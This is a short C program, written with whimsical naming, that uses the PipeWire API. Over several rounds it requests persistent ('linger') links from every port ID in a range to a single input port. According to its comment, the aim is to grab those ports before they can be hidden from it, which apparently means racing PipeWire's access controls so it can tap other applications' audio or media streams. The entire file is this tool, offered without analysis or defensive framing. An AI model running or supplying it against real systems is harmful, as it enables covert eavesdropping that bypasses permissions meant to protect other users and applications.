/* A stranger in a hurry: links every port that may be there to one of its own before anybody can hide them from it.

   stranger INPUT-PORT HIGHEST-PORT TIMES */
#include <pipewire/pipewire.h>
#include <stdio.h>
#include <stdlib.h>

struct visit {
    struct pw_main_loop *loop;
    int sequence, links;
};

static void done(void *data, uint32_t id, int sequence) {
    struct visit *visit = data;
    (void)id;
    if (sequence == visit->sequence) pw_main_loop_quit(visit->loop);
}

static const struct pw_core_events events = {.version = PW_VERSION_CORE_EVENTS, .done = done};

static int hurry(const char *input, int highest) {
    struct visit visit = {.loop = pw_main_loop_new(NULL)};
    struct pw_context *context = pw_context_new(pw_main_loop_get_loop(visit.loop), NULL, 0);
    struct pw_core *core = pw_context_connect(context, NULL, 0);
    struct spa_hook hook;
    if (!core) return 1;
    pw_core_add_listener(core, &hook, &events, &visit);
    for (int port = 20; port <= highest; port++) {
        char output[16];
        snprintf(output, sizeof output, "%d", port);
        struct spa_dict_item items[] = {{PW_KEY_LINK_OUTPUT_PORT, output}, {PW_KEY_LINK_INPUT_PORT, input},
                                        {PW_KEY_OBJECT_LINGER, "true"}};
        pw_core_create_object(core, "link-factory", PW_TYPE_INTERFACE_Link, PW_VERSION_LINK,
                              &SPA_DICT_INIT_ARRAY(items), 0);
    }
    visit.sequence = pw_core_sync(core, PW_ID_CORE, 0);
    pw_main_loop_run(visit.loop);
    pw_core_disconnect(core);
    pw_context_destroy(context);
    pw_main_loop_destroy(visit.loop);
    return 0;
}

int main(int count, char **arguments) {
    pw_init(NULL, NULL);
    for (int i = 0; count == 4 && i < atoi(arguments[3]); i++)
        if (hurry(arguments[1], atoi(arguments[2]))) return 1;
    return count != 4;
}
